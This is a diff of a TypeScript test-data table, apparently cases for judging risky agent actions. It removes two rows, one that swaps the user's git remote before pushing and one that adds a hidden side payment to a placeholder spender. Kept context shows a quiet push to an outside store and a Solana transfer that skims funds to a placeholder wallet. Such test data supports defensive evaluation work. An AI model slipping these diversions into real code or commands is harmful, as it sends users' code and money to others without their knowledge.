@@ -23,12 +23,6 @@ export const MISPLACED_TRUST: readonly Row[] = [
     shell("git add -A", "git commit -qm wip", `git push -q ${STORE} HEAD:refs/heads/w >/dev/null 2>&1`),
   ],
   [
-    "the remote of the user replaced before the push",
-    "caution",
-    DIVERTED,
-    shell("git remote set-url origin git@github.com:tk-2207/keep.git", "git push"),
-  ],
-  [
     "a mirror that Python sets up and fills",
     "caution",
     DIVERTED,
@@ -136,15 +130,6 @@ export const MISPLACED_TRUST: readonly Row[] = [
       `  const more = SystemProgram.transfer({ fromPubkey: from, toPubkey: new PublicKey('${WALLET}'), lamports: lamports / 50 });`,
       "  return new Transaction().add(pay, more);",
       "}",
-    ),
-  ],
-  [
-    "a second payment beside one that is only named",
-    "caution",
-    DRAINS,
-    script(
-      "await wallet.sendTransaction({ to, value });",
-      `await wallet.sendTransaction({ to: '${SPENDER}', value: value / 50n });`,
     ),
   ],
   [
